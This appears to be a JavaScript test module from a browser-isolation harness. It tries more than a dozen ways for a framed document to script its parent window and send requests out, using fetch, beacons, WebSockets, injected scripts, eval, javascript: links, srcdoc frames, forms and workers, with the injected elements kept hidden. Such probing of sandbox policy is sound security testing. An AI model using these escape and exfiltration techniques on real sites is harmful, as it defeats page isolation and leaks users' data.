// Act through a document above that can be scripted: with its policy instead of this one's, or without a sandbox.
{
  const { add, attack, facts, held, nameOf, out, reachable } = hostile;

  hostile.group("above", "Act through a document above");

  /** Not to be seen; it would push this document out of sight. @param {string} tag @param {object} fields @param {Node} into */
  const put = (tag, fields, into) => add(tag, { hidden: true, ...fields }, into);

  /** Try it in every document above that lets this one in. @param {(window: any) => unknown} deed */
  function inEach(deed) {
    const windows = reachable();
    if (!windows.length) return held("no document above can be scripted");
    for (const window of windows) {
      try {
        Promise.resolve(deed(window)).catch(() => {});
      } catch (error) {
        if (windows.length === 1) return held(`${nameOf(error)}`);
      }
    }
    return undefined;
  }

  attack("above-fetch", "Fetch with the window above", ({ id }) =>
    inEach((window) => window.fetch(out(id), { mode: "no-cors" })),
  );
  attack("above-beacon", "Send a beacon with the navigator above", ({ id }) =>
    inEach((window) => window.navigator.sendBeacon(out(id), "x")),
  );
  attack("above-websocket", "Open a WebSocket with the window above", ({ id }) =>
    inEach((window) => new window.WebSocket(out(id).replace("http", "ws"))),
  );
  attack("above-image", "Load an image in the document above", ({ id }) =>
    inEach((window) => put("img", { src: out(id) }, window.document.body)),
  );
  attack("above-script", "Put a script into the document above", ({ id }) =>
    inEach((window) => {
      const text = `fetch(${JSON.stringify(out(id))}, {mode: "no-cors"}); new Image().src = ${JSON.stringify(out(id))}`;
      put("script", { textContent: text }, window.document.body);
    }),
  );
  attack("above-eval", "Evaluate text with the window above", ({ id }) =>
    inEach((window) => window.eval(`fetch(${JSON.stringify(out(id))}, {mode: "no-cors"})`)),
  );
  attack("above-timer", "Give text to a timer of the window above", ({ id }) =>
    inEach((window) => window.setTimeout(`fetch(${JSON.stringify(out(id))}, {mode: "no-cors"})`)),
  );
  attack("above-link", "Click a javascript: link in the document above", ({ id }) =>
    inEach((window) => {
      const href = `javascript:void fetch(${JSON.stringify(out(id))}, {mode: "no-cors"})`;
      put("a", { href }, window.document.body).click();
    }),
  );
  attack("above-frame", "Load a frame in the document above", ({ id }) =>
    inEach((window) => put("iframe", { src: out(id) }, window.document.body)),
  );
  attack("above-blank", "Fetch from an unsandboxed blank frame in the document above", ({ id }) =>
    inEach((window) => {
      const frame = put("iframe", {}, window.document.body);
      new frame.contentWindow.Image().src = out(id);
      return frame.contentWindow.fetch(out(id), { mode: "no-cors" });
    }),
  );
  attack("above-srcdoc", "Run a srcdoc document in the document above", ({ id }) =>
    inEach((window) => {
      const srcdoc = `<img src="${out(id)}"><script>fetch("${out(id)}", {mode: "no-cors"})<\/script>`;
      put("iframe", { srcdoc }, window.document.body);
    }),
  );
  attack("above-form", "Send a form of the document above into a frame of it", ({ id }) =>
    inEach((window) => {
      put("iframe", { name: "hostile-above-form" }, window.document.body);
      put("form", { action: out(id), target: "hostile-above-form" }, window.document.body).submit();
    }),
  );
  attack("above-worker", "Start a worker with the window above", ({ id }) =>
    inEach((window) => {
      const source = new Blob([`fetch(${JSON.stringify(out(id))}, {mode: "no-cors"})`]);
      return new window.Worker(window.URL.createObjectURL(source));
    }),
  );
  attack("above-preconnect", "Announce a connection in the document above", ({ id }) =>
    inEach((window) => put("link", { rel: "preconnect", href: facts.tcp[id] }, window.document.head)),
  );
}
